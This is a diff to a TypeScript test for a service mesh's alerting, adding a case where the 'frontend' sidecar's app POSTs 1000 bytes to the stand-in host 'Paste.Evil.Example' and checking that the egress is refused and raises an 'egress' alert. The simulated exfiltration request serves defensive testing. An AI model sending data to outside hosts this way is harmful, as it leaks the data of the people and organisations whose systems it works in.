@@ -62,9 +62,38 @@ spec:
         principal: TESTER,
         workload: 'shop/orders',
         route: 'get-order',
-        evidence: { requests: 3 },
       },
     ]);
+    // The three requests may straddle a 1 s window: the first window alerts.
+    const requests = alerts[0]!.evidence.requests as number;
+    t.ok(requests >= 1 && requests <= 3, `${requests} request(s) in the alerting window`);
     t.ok((alerts[0]!.evidence.responseBytes as number) > 0, 'response bytes counted');
+
+    // frontend's app tries a host outside the mesh: refused, recorded, and news.
+    const frontend = await mesh.startSidecar({
+      workload: 'frontend',
+      namespace: 'shop',
+      appPort: app.port,
+      usageWindowSeconds: 1,
+    });
+    await untilReady(frontend.adminPort);
+    const egress = await request(`http://127.0.0.1:${frontend.outboundPort}/upload`, {
+      method: 'POST',
+      headers: { host: 'Paste.Evil.Example' },
+      body: 'x'.repeat(1000),
+    });
+    await egress.body.dump();
+    t.equal(egress.statusCode, 502, 'egress outside the mesh is refused');
+    await eventually(async () => {
+      const response = await request(`${mesh.controlPlaneUrl}/v1/alerts`, { dispatcher: operator });
+      alerts = ((await response.body.json()) as { alerts: typeof alerts }).alerts;
+      return alerts.some((alert) => alert.detector === 'egress');
+    }, 15_000);
+    t.match(alerts[0], {
+      detector: 'egress',
+      principal: 'shop/frontend',
+      destination: 'paste.evil.example:80',
+      evidence: { newDestination: true, requests: 1, requestBytes: 1000 },
+    });
   },
 );
